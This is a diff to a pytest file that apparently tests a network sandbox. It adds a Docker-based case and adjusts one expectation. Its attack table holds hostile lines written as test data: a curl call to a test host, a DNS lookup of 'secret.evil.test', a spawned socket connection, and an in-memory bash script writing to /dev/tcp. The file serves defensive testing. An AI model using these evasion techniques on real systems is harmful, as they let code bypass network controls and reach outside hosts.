@@ -19,6 +19,7 @@ import pytest
 
 from tests.hostile.natives import PRELUDE, USERS, alone, lacking, walled
 from tests.hostile.targets import Targets
+from tests.support.guard import DOCKER
 from tests.support.isolation import missing
 
 pytestmark = pytest.mark.hostile
@@ -28,6 +29,9 @@ POLICIES = {
     "nothing": "",
     "native": "- {allow: [native, exec, file, dns]}\n- {allow: connect, to: '127.0.0.1:9'}\n",
 }
+
+#: And where netguard can copy no descriptor, and so makes the program's sockets: in tier B.
+CASES = [*[(name, rules, ()) for name, rules in POLICIES.items()], ("tier B", POLICIES["native"], DOCKER)]
 
 SENDS = "s.send(b'out')"
 
@@ -95,8 +99,8 @@ ATTACKS: dict[str, tuple[str, bool, bool, str]] = {
     "curl, UDP": ("udp", False, True, "subprocess.run(['curl', '-s', '-m', '1', f'tftp://{H}:{UDP}/x'])"),
     "a look-up of libc's": ("dns", False, True, "subprocess.run(['getent', 'hosts', 'secret.evil.test'])"),
     "vfork": ("tcp", False, True, "os.waitpid(os.posix_spawn('/usr/bin/env', ['env', sys.executable, '-I', '-S', '-c', f'import socket; socket.create_connection((\"{H}\", {TCP}))'], os.environ), 0)"),
-    "a program in memory": (
-        "tcp", False, True,
+    "a program in memory": (  # not heard of where programs are on a list: there is no such memory then
+        "tcp", False, False,
         "m = os.memfd_create('x', 0); os.write(m, f'#!/bin/bash\\n: > /dev/tcp/{H}/{TCP}\\n'.encode()); os.waitpid(os.posix_spawn(f'/proc/self/fd/{m}', ['x'], {}), 0)",
     ),
     # Lifecycle
@@ -182,10 +186,10 @@ def test_native_attack_works_alone_and_reaches_nothing_behind_the_wall(
     if not works and "FileNotFoundError" in bare.stderr:
         pytest.skip(f"a program: {bare.stderr.splitlines()[-1]}")
     assert target in works, bare.stderr
-    for name, rules in POLICIES.items():
+    for name, rules, around in CASES:
         for left in ("link", "name"):
             (tmp_path / left).unlink(missing_ok=True)
-        held = walled(tmp_path, code, rules, **how, **given)
+        held = walled(tmp_path, code, rules, around=around, **how, **given)
         assert reachable.touched() <= {"mark"}, (name, held.stderr, held.trail)
         assert [line for line in held.trail if line.get("verdict") == "deny"] or not heard, (name, held.stderr)
         assert held.lines("tamper") == [], name
